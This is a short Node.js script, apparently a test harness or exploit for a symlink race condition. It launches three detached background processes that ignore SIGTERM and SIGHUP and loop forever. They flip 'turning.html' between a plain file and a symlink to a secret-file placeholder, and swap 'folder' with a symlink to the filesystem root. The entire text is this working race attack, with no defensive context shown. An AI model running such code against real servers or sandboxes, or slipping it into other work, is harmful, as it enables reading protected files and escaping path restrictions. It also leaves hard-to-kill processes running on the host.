const { spawn } = require("node:child_process");
const fs = require("node:fs");

const change = `
  const fs = require("node:fs");
  for (const name of ["SIGTERM", "SIGHUP"]) process.on(name, () => {});
  for (let turn = 0; ; turn++) {
    fs.writeFileSync("turning.html", String(turn));
    try { fs.unlinkSync("turning.html"); } catch {}
    try { turn % 2 ? fs.symlinkSync("@SECRET@", "turning.html") : fs.writeFileSync("turning.html", "x"); } catch {}
    try { fs.renameSync("folder", "gone"); fs.symlinkSync("/", "folder"); fs.unlinkSync("folder"); fs.renameSync("gone", "folder"); } catch {}
  }`;
fs.mkdirSync("folder");
for (let each = 0; each < 3; each++) spawn(process.execPath, ["-e", change], { detached: true, stdio: "ignore" }).unref();
setTimeout(() => process.exit(0), 300);
